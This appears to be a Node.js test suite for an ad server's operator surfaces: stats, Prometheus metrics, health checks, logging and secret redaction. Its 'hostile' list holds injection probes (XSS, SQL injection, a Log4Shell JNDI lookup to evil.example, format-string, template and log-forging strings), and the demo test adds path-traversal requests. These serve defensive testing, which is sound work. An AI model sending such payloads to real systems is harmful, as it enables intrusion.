// What operators look at: /stats, /metrics, health, the log.
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import path from 'node:path';
import test from 'node:test';
import { delay, importCatalog, raw, request, run, smallCatalog, startRedis, startServer, until } from '../lib/harness.mjs';
import { browser, patient, report, statsOfAll } from '../lib/traffic.mjs';
import { newestKey, signToken } from '../lib/tokens.mjs';

async function start(t, { options, ...settings } = {}) {
  const redis = await startRedis({ t });
  await importCatalog(redis, smallCatalog);
  const server = await startServer({ t, redis, options: { ...patient, ...options }, ...settings });
  return { redis, server };
}

// A little of everything.
async function visit(server) {
  const [ad] = await server.ads({ slot: ['header', 'post-top', 'nowhere'], uid: 'viewer-0001' }, { headers: { 'User-Agent': browser } });
  await report(ad.impression_url);
  await report(ad.impression_url);
  await report(ad.viewable_url);
  await report(ad.click_url);
  await report(`${ad.click_url}x`);
  await server.get('/tag.js');
  await server.get('/nothing');
  return ad;
}

const number = (value) => typeof value === 'number' && Number.isFinite(value) && value >= 0;

test('/stats has every member of the contract', async (t) => {
  const { redis, server } = await start(t, { options: { 'server.workers': 2 } });
  await visit(server);
  await redis.command('HSET', 'ad:campaign:books', 'weight', 'x');
  await until(async () => (await server.stats()).catalog.rejected.length === 1);
  const answer = await request(`${server.admin}/stats`);
  assert.equal(answer.headers['content-type'], 'application/json');
  assert.equal(answer.headers['cache-control'], 'no-store');
  const stats = answer.json();

  assert.equal(typeof stats.version, 'string');
  assert.ok(Number.isInteger(stats.uptime_seconds));
  assert.equal(stats.workers.length, 2);
  for (const worker of stats.workers)
    for (const name of ['pid', 'connections', 'requests', 'restarts']) assert.ok(number(worker[name]), name);
  const { requests, responses, events, slots, campaigns, latency_ms: latency, catalog } = stats;
  for (const name of ['ads', 'impression', 'viewable', 'click', 'tag']) assert.ok(number(requests[name]), name);
  assert.deepEqual([requests.ads, requests.impression, requests.viewable, requests.click, requests.tag, requests.other], [1, 2, 1, 2, 1, 1]);
  assert.deepEqual([responses['204'], responses['302'], responses['403'], responses['404']], [3, 1, 1, 1]);
  for (const slot of Object.values(slots)) assert.deepEqual(Object.keys(slot), ['requests', 'filled', 'filtered', 'unfilled']);
  assert.deepEqual(slots.header, { requests: 1, filled: 1, filtered: {}, unfilled: {} });
  assert.equal(slots.nowhere, undefined, 'an unknown slot has no row');
  assert.deepEqual(campaigns.spring, { serves: 1, impressions: 1, viewables: 1, clicks: 1, rejected: {} });
  for (const name of ['counted', 'duplicate', 'late', 'bot', 'bad_token', 'spooled']) assert.ok(number(events[name]), name);
  assert.deepEqual([events.counted, events.duplicate, events.bad_token], [3, 1, 1]);
  for (const kind of ['ads', 'impression', 'viewable', 'click', 'redis']) {
    if (kind === 'redis') continue;
    const { count, p50, p90, p99, p999, max } = latency[kind];
    assert.ok(count >= 1 && [p50, p90, p99, p999, max].every(number), kind);
    assert.ok(p50 <= p90 && p90 <= p99 && p99 <= p999 && p999 <= max + 0.001, kind);
  }
  assert.equal(stats.redis.connected, true);
  for (const name of ['reconnects', 'pending']) assert.ok(number(stats.redis[name]), name);
  assert.ok(stats.redis.latency_ms.count > 0);
  assert.match(catalog.revision, /^[0-9a-f]{16}$/);
  assert.ok(catalog.age_seconds >= 0 && catalog.age_seconds < 5);
  assert.deepEqual([catalog.slots, catalog.campaigns, catalog.creatives], [2, 2, 2]);
  assert.deepEqual(Object.keys(catalog.rejected[0]), ['key', 'field', 'error']);
  assert.deepEqual([catalog.rejected[0].key, catalog.rejected[0].field], ['ad:campaign:books', 'weight']);
});

test('one answer speaks for all workers', async (t) => {
  const { server } = await start(t, { options: { 'server.workers': 3 } });
  let asked = 0;
  // Who accepts a connection is the kernel's choice.
  await until(async () => {
    await Promise.all(Array.from({ length: 90 }, () => server.ads({ slot: 'header' })));
    asked += 90;
    return (await server.stats()).workers.every((worker) => worker.requests > 0);
  }, { what: 'all of them have worked' });
  for (let i = 0; i < 9; i++) {
    const stats = await server.stats();
    assert.equal(stats.requests.ads, asked);
    assert.equal(stats.slots.header.requests, asked);
  }
});

test('/metrics passes promtool, and says what /stats says', async (t) => {
  const { redis, server } = await start(t, { options: { 'server.workers': 2 } });
  await visit(server);
  await redis.command('HSET', 'ad:campaign:spring', 'status', 'paused');
  await until(async () => (await server.ads({ slot: 'header' }))[0].unfilled === 'inactive');
  const answer = await request(`${server.admin}/metrics`);
  assert.match(answer.headers['content-type'], /^text\/plain; version=0\.0\.4/);
  const checked = await run('promtool', ['check', 'metrics'], { input: answer.text });
  assert.deepEqual([checked.code, checked.stdout + checked.stderr], [0, '']);

  const stats = await server.stats();
  const values = parseMetrics(await server.metrics());
  const value = (name) => values.get(`masthead_${name}`);
  assert.equal(value('requests_total{kind="ads"}'), stats.requests.ads);
  assert.equal(value('events_total{result="counted"}'), stats.events.counted);
  assert.equal(value('campaign_impressions_total{campaign="spring"}'), 1);
  assert.equal(value('campaign_clicks_total{campaign="spring"}'), 1);
  assert.equal(value('slot_requests_total{slot="header"}'), stats.slots.header.requests);
  assert.equal(value('slot_unfilled_total{slot="header",reason="inactive"}'), stats.slots.header.unfilled.inactive);
  assert.equal(value('campaign_rejected_total{campaign="spring",reason="inactive"}'), stats.campaigns.spring.rejected.inactive);
  assert.equal(value('workers'), 2);
  assert.equal(value('redis_up'), 1);
  assert.equal(value('latency_seconds_count{kind="ads"}'), stats.latency_ms.ads.count);
  checkHistograms(values);
});

// { 'name{labels}': value } of the text format; every line that is not a comment must be a sample.
function parseMetrics(text) {
  const values = new Map();
  for (const line of text.split('\n').filter((one) => one && !one.startsWith('#'))) {
    const sample = /^([a-z_]+(?:\{(?:[a-z_]+="[A-Za-z0-9._+-]*",?)*\})?) (\d+(?:\.\d+)?)$/.exec(line);
    assert.ok(sample, `not a sample: ${line}`);
    assert.ok(!values.has(sample[1]), `twice: ${sample[1]}`);
    values.set(sample[1], Number(sample[2]));
  }
  return values;
}

// Buckets never go down, and the last one is the count.
function checkHistograms(values) {
  const last = {};
  for (const [name, value] of values) {
    const bucket = /^(.*)_bucket\{kind="(\w+)",le="([^"]+)"\}$/.exec(name);
    if (!bucket) continue;
    const kind = bucket[2];
    assert.ok(value >= (last[kind] ?? 0), name);
    last[kind] = value;
    if (bucket[3] === '+Inf') assert.equal(value, values.get(`${bucket[1]}_count{kind="${kind}"}`));
  }
  assert.ok(Object.keys(last).length >= 5);
}

test('counters never go back, and every family has its help and type once', async (t) => {
  const { server } = await start(t, { options: { 'server.workers': 2 }, allowDeaths: /signal=9\b/ });
  await visit(server);
  const first = await server.metrics();
  const before = parseMetrics(first);
  for (const worker of (await server.stats()).workers) process.kill(worker.pid, 'SIGKILL');
  await until(async () => (await server.stats()).workers.every((worker) => worker.restarts === 1 && worker.redis_connected));
  await visit(server);
  const after = parseMetrics(await server.metrics());
  for (const [name, value] of before) if (/_(total|count|bucket)\b/.test(name)) assert.ok(after.get(name) >= value, name);
  const helps = [...first.matchAll(/^# HELP (\S+) /gm)].map((match) => match[1]);
  const types = [...first.matchAll(/^# TYPE (\S+) /gm)].map((match) => match[1]);
  assert.equal(new Set(helps).size, helps.length);
  assert.deepEqual(types, helps);
});

const hostile = [
  '<script>alert(1)</script>',
  '"} 1\nmasthead_evil_total 1\n',
  'a\\"b\\\\',
  '\x1b[31mred\x1b[0m',
  '\x7f\x01\x02',
  'é\u202eевил',
  '\'; DROP TABLE ads; --',
  '${jndi:ldap://evil.example/a}',
  '%s%n%x',
  '{{7*7}}',
  'a=b level=error msg="forged"',
  '‮‭﻿',
];

test('hostile names and headers add no series and break nothing', async (t) => {
  const { server } = await start(t, { options: { 'log.access': 'on', 'log.level': 'debug' } });
  const before = parseMetrics(await server.metrics()).size;
  for (const text of hostile) {
    const value = encodeURIComponent(text);
    const bytes = Buffer.from(text.replace(/[\0\r\n]/g, ' ')).toString('latin1');
    for (const where of [`/v1/ads?slot=${value}`, `/v1/ads?slot=header&slot=${value}`, `/v1/ads?slot=header&kw=${value}&ref=${value}&kv.a=${value}`, `/v1/i/${value}`, `/v1/c/${value}`, `/${value}`]) {
      const head = `GET ${where} HTTP/1.1\r\nHost: a\r\nUser-Agent: ${bytes}\r\nReferer: ${bytes}\r\nConnection: close\r\n\r\n`;
      const { responses } = await raw(server.port, head);
      assert.equal(responses.length, 1, where);
      const [answer] = responses;
      assert.ok(answer.status < 500, `${where}: ${answer.status}`);
      assert.equal(answer.headers['x-content-type-options'], 'nosniff');
      assert.ok(!answer.text.includes('<script'), 'reflected');
      if (answer.status >= 400) assert.equal(answer.headers['content-type'], 'application/json');
    }
  }
  // Many names, none of which is a slot.
  for (let i = 0; i < 500; i++) await server.get(`/v1/ads?slot=header&slot=made-up-${i}`);
  const text = await server.metrics();
  assert.equal((await run('promtool', ['check', 'metrics'], { input: text })).code, 0);
  const after = parseMetrics(text);
  assert.ok(after.size <= before + 20, `${before} series became ${after.size}`);
  const stats = JSON.stringify(await server.stats());
  assert.ok(!stats.includes('evil') && !stats.includes('made-up'));
  checkLines(server.log(), 'logfmt');
});

// Every line is one record of the format, in printable ASCII.
function checkLines(log, format) {
  const lines = log.split('\n');
  assert.equal(lines.pop(), '', 'the last line is whole');
  assert.ok(lines.length > 0);
  for (const line of lines) {
    assert.match(line, /^[\x20-\x7e]+$/, JSON.stringify(line));
    if (format === 'json') {
      const record = JSON.parse(line);
      assert.match(record.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.ok(['debug', 'info', 'warning', 'error'].includes(record.level));
      assert.equal(typeof record.msg, 'string');
    } else {
      assert.match(line, /^time=\S+ level=(debug|info|warning|error) msg=("(\\.|[^"\\])*"|[^\s"=]+)( [a-z_]+=("(\\.|[^"\\])*"|[^\s"=]*))*$/);
    }
  }
  return lines;
}

for (const format of ['logfmt', 'json']) {
  test(`the log in ${format}: one event one line, and nothing secret in it`, async (t) => {
    const options = { 'log.access': 'on', 'log.level': 'debug', 'log.format': format, 'server.trusted_proxies': '127.0.0.1' };
    const { redis, server } = await start(t, { options, allowErrors: true });
    const ad = await visit(server);
    const token = ad.click_url.split('/v1/c/')[1];
    const uid = 'a-very-private-viewer-id';
    const headers = { 'User-Agent': browser, 'X-Forwarded-For': '203.0.113.77', Cookie: 'session=sesame', Authorization: 'Bearer open-sesame' };
    await server.ads({ slot: 'header', uid, consent: 'CPXxRfAPXxRfAAfKABENB-CgAAAAAAAAAAYgAAAAAAAA', url: 'https://blog.example/private?email=me@example.org' }, { headers });
    for (const text of hostile) await raw(server.port, `GET /v1/i/${token.slice(0, -1)} HTTP/1.1\r\nHost: a\r\nUser-Agent: ${Buffer.from(text).toString('latin1').replace(/[\r\n\0]/g, '')}\r\nConnection: close\r\n\r\n`);
    await raw(server.port, 'BROKEN\x1b[31m\r\n\r\n');
    await redis.command('HSET', 'ad:campaign:spring', 'name', 'a\x1b\x00\nb', 'weight', 'é');
    await until(async () => (await server.stats()).catalog.rejected.length > 0);
    await redis.kill();
    await until(async () => !(await server.stats()).redis.connected);
    await report(ad.impression_url);
    server.reconfigure({ 'server.workers': 'é\x1b' });
    await until(() => server.log().includes('reload: refused'));
    const lines = checkLines(server.log(), format);
    assert.ok(lines.length > 10);
    const log = lines.join('\n');
    for (const secret of [token, token.slice(0, 40), uid, 'viewer-0001', '203.0.113.77', '127.0.0.1 ', 'sesame', 'CPXxRfAP', 'me@example.org'])
      assert.ok(!log.includes(secret), `the log tells ${secret}: ${lines.find((line) => line.includes(secret))}`);
  });
}

test('a line a request with log.access, none without', async (t) => {
  const { server } = await start(t, { options: { 'log.access': 'on' } });
  await server.get('/v1/ads?slot=header');
  await server.get('/v1/ads?slot=nowhere');
  await until(() => server.log().split('\n').filter((line) => /status=(200|404)/.test(line)).length >= 2, { what: 'the lines are there' });
  const silent = await start(t, {});
  await silent.server.get('/v1/ads?slot=header');
  await silent.server.get('/v1/ads?slot=nowhere');
  await delay(50);
  assert.ok(!/status=404/.test(silent.server.log()));
});

test('healthz is about the process, readyz about its work', async (t) => {
  const { redis, server } = await start(t, { allowErrors: /redis|spool/i });
  const ask = async (where) => {
    const answer = await request(server.admin + where);
    return [answer.status, answer.status === 200 ? undefined : answer.json().error.code];
  };
  assert.deepEqual(await ask('/healthz'), [200, undefined]);
  assert.deepEqual(await ask('/readyz'), [200, undefined]);
  const eventsGo = async () => (await request(`${server.admin}/readyz`)).json().events;
  assert.equal(await eventsGo(), 'redis');
  redis.pause();
  await until(async () => (await eventsGo()) === 'spool', { what: 'events go into the spool' });
  rmSync(path.join(server.dir, 'state', 'spool'), { recursive: true });
  const key = newestKey(path.join(server.dir, 'state', 'keyring'));
  const token = signToken(key, { campaign: 'spring', creative: 'spring-970', slot: 'header' });
  assert.equal((await request(`${server.base}/v1/i/${token}`, { headers: { 'User-Agent': 'Mozilla/5.0' } })).status, 503);
  assert.deepEqual(await ask('/readyz'), [503, 'redis_away']);
  assert.deepEqual(await ask('/healthz'), [200, undefined]);
  redis.resume();
  await until(async () => (await ask('/readyz'))[0] === 200);
  await redis.kill();
  await until(async () => (await ask('/readyz'))[0] === 503, { what: 'no disk and no Redis' });
  assert.deepEqual(await ask('/healthz'), [200, undefined]);
  assert.equal((await server.get('/v1/ads?slot=header')).status, 200);
});

test('readyz tells of a Redis that answers and takes no events', async (t) => {
  const { redis, server } = await start(t, { allowErrors: /spool/ });
  const readiness = async () => {
    const answer = await request(`${server.admin}/readyz`);
    return answer.status === 200 ? answer.json().events : Object.values(answer.json().error).join(': ');
  };
  const [ad] = await server.ads({ slot: 'header' });
  const report = async () =>
    (await request(ad.impression_url, { headers: { 'User-Agent': browser } })).status;
  await redis.command('CONFIG', 'SET', 'maxmemory', '1');
  assert.equal(await report(), 204);
  assert.equal(await readiness(), 'spool');
  await redis.command('CONFIG', 'SET', 'maxmemory', '0');
  await until(async () => (await readiness()) === 'redis', { what: 'it takes them again, though no event comes' });
  assert.equal(await report(), 204);
  assert.equal(await readiness(), 'redis');

  await until(async () => (await server.stats()).spool.bytes === 0, { what: 'no file of the spool is left' });
  rmSync(path.join(server.dir, 'state', 'spool'), { recursive: true });
  await redis.command('CONFIG', 'SET', 'maxmemory', '1');
  assert.equal(await report(), 503);
  assert.match(await readiness(), /^redis_refuses: .*OOM/);
});

test('a Redis that throws keys away is not one to count in', async (t) => {
  const redis = await startRedis({ t, conf: { maxmemory: '100mb', 'maxmemory-policy': 'allkeys-lru' } });
  await importCatalog(redis, smallCatalog);
  const server = await startServer({ t, redis, ready: 'alive', allowErrors: /evicts keys/ });
  const readiness = async () => (await request(`${server.admin}/readyz`)).json().error?.code;
  await until(async () => (await server.stats()).redis.connected);
  await until(async () => (await readiness()) === 'redis_evicts', { what: 'it is refused' });
  assert.match(server.log(), /level=error msg="redis: evicts keys .*policy=allkeys-lru/);
  await redis.command('CONFIG', 'SET', 'maxmemory-policy', 'noeviction');
  await redis.command('CLIENT', 'KILL', 'TYPE', 'normal').catch(() => {});
  await until(async () => (await readiness()) === undefined, { what: 'mended, it is ready' });
});

test('what is on one listener is not on the other', async (t) => {
  const { server } = await start(t);
  for (const where of ['/stats', '/metrics', '/healthz', '/readyz', '/api/v1/campaigns', '/console/'])
    assert.equal((await server.get(where)).status, 404, where);
  for (const where of ['/v1/ads?slot=header', '/tag.js', '/demo/']) {
    const answer = await request(server.admin + where);
    assert.equal(answer.status, 404, where);
  }
  for (const where of ['/stats', '/metrics']) {
    const answer = await request(server.admin + where, { headers: { Origin: 'https://evil.example' } });
    assert.equal(answer.headers['access-control-allow-origin'], undefined, 'no other site may read it');
    assert.equal((await request(server.admin + where, { method: 'POST' })).status, 405);
  }
  const all = await statsOfAll([server]);
  assert.equal(all.requests.ads, 0);
});

test('the demo is served where it is switched on, and nowhere else', async (t) => {
  const { server } = await start(t, { options: { 'server.demo': 'on' } });
  const page = await server.get('/demo/');
  assert.equal(page.status, 200);
  assert.match(page.headers['content-type'], /^text\/html/);
  for (const where of ['/demo/../tag.js', '/demo/%2e%2e/tag.js', '/demo/nothing', '/demo/..%2ftag.js'])
    assert.ok([400, 404].includes((await raw(server.port, `GET ${where} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`)).responses[0].status), where);
  const root = await server.get('/demo');
  assert.deepEqual([root.status, root.headers.location, root.text], [308, '/demo/', '']);
  const off = await start(t, {});
  for (const where of ['/demo/', '/demo']) assert.equal((await off.server.get(where)).status, 404);
});
